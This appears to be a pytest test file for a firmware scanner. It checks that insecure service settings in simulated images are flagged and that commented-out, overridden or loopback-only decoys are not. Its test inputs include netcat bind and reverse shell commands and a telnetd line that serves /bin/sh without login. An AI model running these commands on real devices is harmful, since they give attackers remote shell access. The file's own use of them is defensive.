"""Settings that open are seen where they hold; what is overridden, commented out, local or of an idle service is not."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from shinsa.facts.service_settings import Opens, ServiceSetting
from shinsa.probes.firmware.service_settings import service_settings

if TYPE_CHECKING:
    from tests.probes.firmware.conftest import Look
    from tests.simulators.squashfs_image import Short

PROGRAM = (b"\x7fELF", 0o755, 0, 0)
NAMES = (
    "sshd",
    "lighttpd",
    "nginx",
    "boa",
    "thttpd",
    "vsftpd",
    "mosquitto",
    "snmpd",
    "smbd",
    "ttyd",
    "dropbear",
    "apache2",
)
PROGRAMS: dict[str, Short] = {
    **{f"usr/sbin/{name}": PROGRAM for name in NAMES},
    **dict.fromkeys(
        ("usr/sbin/telnetd", "usr/bin/tcpsvd", "usr/sbin/ftpd", "usr/sbin/httpd", "usr/bin/nc"), "/bin/busybox"
    ),
    "bin/login.sh": (b"#!/bin/sh\nexec /bin/ash --login\n", 0o755, 0, 0),
}


def opened(look: Look, start: str, files: dict[str, Short]) -> list[tuple[str, str, Opens]]:
    seen = look(service_settings, {**PROGRAMS, "etc/rc.local": f"{start} &\n".encode(), **files})
    facts = [fact for fact in seen.facts if isinstance(fact, ServiceSetting)]
    return [(fact.setting, fact.value, fact.opens) for fact in facts]


@pytest.mark.parametrize(
    ("start", "file", "text", "wanted"),
    [
        ("telnetd -l /bin/sh", "", "", ("-l", "/bin/sh", Opens.NO_LOGIN)),
        ("telnetd -l /bin/login.sh", "", "", ("-l", "/bin/login.sh", Opens.NO_LOGIN)),
        ("dropbear -B", "", "", ("-B", "", Opens.EMPTY_PASSWORD)),
        ("tcpsvd 0 21 ftpd -A /srv", "", "", ("-A", "", Opens.NO_LOGIN)),
        ("httpd -h /", "", "", ("-h", "/", Opens.ALL_FILES)),
        ("nc -l -p 4444 -e /bin/sh", "", "", ("-e", "", Opens.NO_LOGIN)),
        ("ttyd -p 80 login", "", "", ("without --auth-header", "", Opens.NO_LOGIN)),
        ("sshd", "etc/ssh/sshd_config", "PermitRootLogin yes\n", ("PermitRootLogin", "yes", Opens.ROOT_LOGIN)),
        (
            "sshd",
            "etc/ssh/sshd_config",
            "PermitEmptyPasswords yes # x\nPermitEmptyPasswords no\n",
            ("PermitEmptyPasswords", "yes", Opens.EMPTY_PASSWORD),
        ),
        (
            "lighttpd -f /etc/l.conf",
            "etc/l.conf",
            'dir-listing.activate = "enable"\n',
            ("dir-listing.activate", "enable", Opens.LISTING),
        ),
        (
            "lighttpd -f /etc/l.conf",
            "etc/l.conf",
            'ssl.engine = "enable"\nssl.openssl.ssl-conf-cmd = ("MinProtocol" => "TLSv1")\n',
            ("ssl.openssl.ssl-conf-cmd", '("MinProtocol" => "TLSv1")', Opens.OLD_TLS),
        ),
        (
            "nginx",
            "etc/nginx/nginx.conf",
            "server {\n listen 443 ssl;\n ssl_protocols TLSv1.1 TLSv1.2;\n}\n",
            ("ssl_protocols", "TLSv1.1 TLSv1.2", Opens.OLD_TLS),
        ),
        ("nginx", "etc/nginx/nginx.conf", "autoindex on;\n", ("autoindex", "on", Opens.LISTING)),
        ("nginx", "etc/nginx/nginx.conf", "user root;\n", ("user", "root", Opens.ROOT)),
        ("boa", "etc/boa/boa.conf", "DocumentRoot /\n", ("DocumentRoot", "/", Opens.ALL_FILES)),
        ("thttpd", "etc/thttpd.conf", "cgipat=**\n", ("cgipat", "**", Opens.PROGRAMS)),
        ("vsftpd", "etc/vsftpd.conf", "anonymous_enable=YES\n", ("anonymous_enable", "YES", Opens.NO_LOGIN)),
        (
            "mosquitto",
            "etc/mosquitto/mosquitto.conf",
            "allow_anonymous true\n",
            ("allow_anonymous", "true", Opens.NO_LOGIN),
        ),
        ("snmpd", "etc/snmp/snmpd.conf", "rwcommunity private\n", ("rwcommunity", "private", Opens.WRITES)),
        ("smbd", "etc/samba/smb.conf", "[x]\n guest ok = yes\n", ("guest ok", "yes", Opens.NO_LOGIN)),
        (
            "apache2",
            "etc/apache2/apache2.conf",
            "Options Indexes FollowSymLinks\n",
            ("Options", "Indexes FollowSymLinks", Opens.LISTING),
        ),
    ],
)
def test_what_opens_is_seen(start: str, file: str, text: str, wanted: tuple[str, str, Opens], look: Look) -> None:
    found = opened(look, start, {file: text.encode()} if file else {})
    assert [(setting, value if wanted[1] or not value else "", opens) for setting, value, opens in found] == [wanted]


@pytest.mark.parametrize(
    ("start", "file", "text"),
    [
        ("telnetd", "", ""),
        ("telnetd -l /bin/login", "", ""),
        ("dropbear -s", "", ""),
        ("nc -e /bin/sh 192.0.2.1 80", "", ""),
        ("sshd", "etc/ssh/sshd_config", "#PermitRootLogin yes\nPermitRootLogin prohibit-password\n"),
        ("sshd", "etc/ssh/sshd_config", "Match User backup\n PermitRootLogin yes\n"),
        ("dropbear", "etc/ssh/sshd_config", "PermitRootLogin yes\n"),
        ("nginx", "etc/nginx/nginx.conf", "ssl_protocols TLSv1 TLSv1.2;\nlisten 80;\n"),
        (
            "nginx",
            "etc/nginx/nginx.conf",
            "listen 443 ssl;\nssl_ciphers HIGH:!aNULL:!MD5:!RC4;\nssl_protocols TLSv1.2;\n",
        ),
        ("nginx", "etc/nginx/nginx.conf", "root /www; # not / itself\nautoindex off;\n"),
        ("vsftpd", "etc/vsftpd.conf", "anonymous_enable=YES\nanonymous_enable=NO\n"),
        ("mosquitto", "etc/mosquitto/mosquitto.conf", "# allow_anonymous true\nallow_anonymous false\n"),
        ("snmpd", "etc/snmp/snmpd.conf", "rocommunity public localhost\nrocommunity public 127.0.0.1\n"),
        ("apache2", "etc/apache2/apache2.conf", "Options -Indexes +FollowSymLinks\n"),
        ("httpd", "etc/httpd.conf", "Options Indexes\n"),
    ],
)
def test_decoys_are_none(start: str, file: str, text: str, look: Look) -> None:
    assert not opened(look, start, {file: text.encode()} if file else {})


def test_a_service_on_the_loopback_is_marked(look: Look) -> None:
    files: dict[str, Short] = {
        **PROGRAMS,
        "etc/rc.local": b"mosquitto -c /etc/m.conf &\n",
        "etc/m.conf": b"listener 1883 127.0.0.1\nallow_anonymous true\n",
    }
    (fact,) = look(service_settings, files).facts
    assert isinstance(fact, ServiceSetting)
    assert fact.local_only
